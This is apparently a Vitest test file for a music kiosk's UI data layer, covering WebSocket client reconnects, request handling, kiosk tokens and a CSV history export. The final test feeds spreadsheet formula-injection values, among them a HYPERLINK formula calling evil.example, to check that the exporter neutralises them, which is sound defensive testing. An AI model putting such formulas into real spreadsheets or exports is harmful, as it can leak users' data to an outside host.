import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { StateSnapshot } from '../../src/daemon/http/contract.js';
import { playsToCsv } from '../../src/ui/data/admin-api.js';
import { ApiClient, ApiError, type SocketLike } from '../../src/ui/data/api-client.js';
import { KioskApi } from '../../src/ui/data/kiosk-api.js';

/** A socket the test drives: `open()`, `receive()`, `drop()`; records what the client sends. */
class FakeSocket implements SocketLike {
  readyState = 0;
  readonly sent: string[] = [];
  readonly #listeners = new Map<string, Array<(event: { data: unknown }) => void>>();

  addEventListener(type: string, listener: (event: { data: unknown }) => void): void {
    this.#listeners.set(type, [...(this.#listeners.get(type) ?? []), listener]);
  }
  send(text: string): void {
    this.sent.push(text);
  }
  close(): void {
    this.drop();
  }
  open(): void {
    this.readyState = 1;
    this.#fire('open', undefined);
  }
  receive(message: unknown): void {
    this.#fire('message', JSON.stringify(message));
  }
  drop(): void {
    if (this.readyState === 3) return;
    this.readyState = 3;
    this.#fire('close', undefined);
  }
  #fire(type: string, data: unknown): void {
    for (const listener of this.#listeners.get(type) ?? []) listener({ data });
  }
}

const STATE: StateSnapshot = {
  version: '0.1.0',
  demo: true,
  timeZone: 'UTC',
  language: null,
  camera: { status: 'on', detail: null },
  mood: { current: 'neutral', confidence: 0.8, since: 1, why: null, faces: 1 },
  player: { status: 'stopped', nowPlaying: null, positionMs: 0, next: null, volume: 50 },
  suggestions: [],
  session: { user: null, notice: null },
  services: [],
  library: { scanning: false, done: 0, total: 0, tracks: 0, lastScan: null, analysis: { running: false, done: 0, total: 0, failed: 0 } },
  guests: { open: 0, awaitingStaff: 0, changedAt: null },
  dayPlan: null,
  quietHours: false,
};

describe('ApiClient (the UI data layer) on a fake socket', () => {
  let sockets: FakeSocket[];
  let client: ApiClient;
  const last = (): FakeSocket => sockets.at(-1)!;

  beforeEach(() => {
    vi.useFakeTimers();
    sockets = [];
    client = new ApiClient({
      url: 'ws://moodbox.test/ws',
      createSocket: () => {
        const socket = new FakeSocket();
        sockets.push(socket);
        return socket;
      },
      retryMs: 500,
      maxRetryMs: 4000,
      requestTimeoutMs: 1000,
    });
  });

  afterEach(() => {
    client.close();
    vi.useRealTimers();
  });

  it('goes online on the snapshot and applies each change in order', () => {
    client.connect();
    last().open();
    expect(client.snapshot.isOnline).toBe(false);
    last().receive({ type: 'state/snapshot', seq: 4, data: STATE });
    expect(client.snapshot).toEqual({ isOnline: true, state: STATE });
    const camera = client.snapshot.state?.camera;
    last().receive({ type: 'mood/changed', seq: 5, data: { ...STATE.mood, current: 'happy' } });
    expect(client.snapshot.state?.mood.current).toBe('happy');
    expect(client.snapshot.state?.camera).toBe(camera);
  });

  it('reconnects for a fresh snapshot when a change was missed', () => {
    client.connect();
    last().open();
    last().receive({ type: 'state/snapshot', seq: 1, data: STATE });
    last().receive({ type: 'mood/changed', seq: 3, data: { ...STATE.mood, current: 'sad' } });
    expect(client.snapshot.state?.mood.current).toBe('neutral');
    expect(client.snapshot.isOnline).toBe(false);
    vi.advanceTimersByTime(500);
    expect(sockets).toHaveLength(2);
  });

  it('reconnects with a doubling delay up to the limit, and resets it once connected', () => {
    client.connect();
    const delays: number[] = [];
    for (let i = 0; i < 5; i += 1) {
      const before = sockets.length;
      last().drop();
      let waited = 0;
      while (sockets.length === before) {
        vi.advanceTimersByTime(100);
        waited += 100;
      }
      delays.push(waited);
    }
    expect(delays).toEqual([500, 1000, 2000, 4000, 4000]);
    last().open();
    last().drop();
    vi.advanceTimersByTime(500);
    expect(sockets).toHaveLength(7);
  });

  it('answers requests by transaction, with the daemon error as ApiError', async () => {
    client.connect();
    last().open();
    last().receive({ type: 'state/snapshot', seq: 0, data: STATE });
    const play = client.request('player/play', { trackId: 3 });
    const skip = client.request('player/skip', { trackId: 3 });
    const [first, second] = last().sent.map((t) => JSON.parse(t) as { type: string; transaction: string; data: unknown });
    expect(first).toMatchObject({ type: 'player/play', data: { trackId: 3 } });
    last().receive({ type: 'player/skip', transaction: second!.transaction, status: 'error', error: { code: 'MB_ERR_X', message: 'No.' } });
    last().receive({ type: 'player/play', transaction: first!.transaction, status: 'ok', data: { queued: true } });
    await expect(play).resolves.toEqual({ queued: true });
    await expect(skip).rejects.toMatchObject({ code: 'MB_ERR_X', message: 'No.' });
  });

  it('refuses requests while offline and fails pending ones when the link drops or times out', async () => {
    await expect(client.request('player/play', { trackId: 1 })).rejects.toBeInstanceOf(ApiError);
    client.connect();
    last().open();
    last().receive({ type: 'state/snapshot', seq: 0, data: STATE });
    const dropped = client.request('player/like', { trackId: 1 });
    last().drop();
    await expect(dropped).rejects.toMatchObject({ code: 'MB_ERR_OFFLINE' });
    vi.advanceTimersByTime(500);
    last().open();
    last().receive({ type: 'state/snapshot', seq: 0, data: STATE });
    const slow = client.request('player/like', { trackId: 1 });
    vi.advanceTimersByTime(1000);
    await expect(slow).rejects.toMatchObject({ code: 'MB_ERR_TIMEOUT' });
  });

  it('fires change events a screen can render from', () => {
    const seen: boolean[] = [];
    client.addEventListener('change', () => seen.push(client.snapshot.isOnline));
    client.connect();
    last().open();
    last().receive({ type: 'state/snapshot', seq: 0, data: STATE });
    last().drop();
    expect(seen).toEqual([true, false]);
  });

  it('sends the kiosk token with the player requests while this screen holds one (issue 14)', async () => {
    const api = new KioskApi(client);
    client.connect();
    last().open();
    last().receive({ type: 'state/snapshot', seq: 0, data: STATE });
    const pending: Array<Promise<unknown>> = [];
    const keep = (request: Promise<unknown>): void => void pending.push(request.catch(() => undefined));
    keep(api.like({ id: 3 }));
    vi.stubGlobal(
      'fetch',
      vi.fn(async () => Response.json({ token: 'tok-1', expiresAt: 1, user: { id: 1, name: 'Ada', role: 'member' } })),
    );
    try {
      await api.signIn('Ada', '2468');
    } finally {
      vi.unstubAllGlobals();
    }
    keep(api.like({ id: 3 }));
    keep(api.play({ id: 4 }));
    keep(api.skip({ id: 4 }));
    api.forget();
    keep(api.play({ id: 5 }));
    const sent = last().sent.map((t) => JSON.parse(t) as { type: string; token?: string });
    expect(sent.map((m) => [m.type, m.token])).toEqual([
      ['player/like', undefined],
      ['player/like', 'tok-1'],
      ['player/play', 'tok-1'],
      ['player/skip', 'tok-1'],
      ['player/play', undefined],
    ]);
    client.close();
    await Promise.all(pending);
  });
});

describe('playsToCsv (history export)', () => {
  it('writes one quoted-as-needed row per play with ISO times, and the title, artist and person where known', () => {
    const csv = playsToCsv([
      { id: 1, trackId: 9, userId: null, reason: 'tap', mood: 'calm, "soft"', startedAt: 0, endedAt: null, outcome: null },
      {
        id: 2,
        trackId: 4,
        userId: 3,
        reason: 'like',
        mood: 'upbeat',
        startedAt: 0,
        endedAt: 1000,
        outcome: 'completed',
        title: 'Morning Walk',
        artist: 'Ensemble, Trio',
        userName: 'Ada',
      },
    ]);
    expect(csv).toBe(
      'id,trackId,userId,reason,mood,startedAt,endedAt,outcome,title,artist,person\r\n' +
        '1,9,,tap,"calm, ""soft""",1970-01-01T00:00:00.000Z,,,,,\r\n' +
        '2,4,3,like,upbeat,1970-01-01T00:00:00.000Z,1970-01-01T00:00:01.000Z,completed,Morning Walk,"Ensemble, Trio",Ada\r\n',
    );
  });

  it('writes a cell a spreadsheet would run as a formula as text, with a leading quote', () => {
    const play = { id: 1, trackId: 9, userId: 3, reason: 'tap', mood: 'calm', startedAt: 0, endedAt: null, outcome: null } as const;
    const row = (title: string, artist: string, userName: string): string =>
      (playsToCsv([{ ...play, title, artist, userName }]).split('\r\n')[1] ?? '').split(',1970-01-01T00:00:00.000Z,,,')[1] ?? '';
    expect(row('=HYPERLINK("http://evil.example/?"&A1;"Click")', '+1', '@SUM(A1)')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")",'+1,'@SUM(A1)`,
    );
    expect(row('-2+3', '\tcmd', '\rx')).toBe(`'-2+3,'\tcmd,"'\rx"`);
    expect(row('Ada = Bob', 'A-ha', 'x@y')).toBe('Ada = Bob,A-ha,x@y');
  });
});
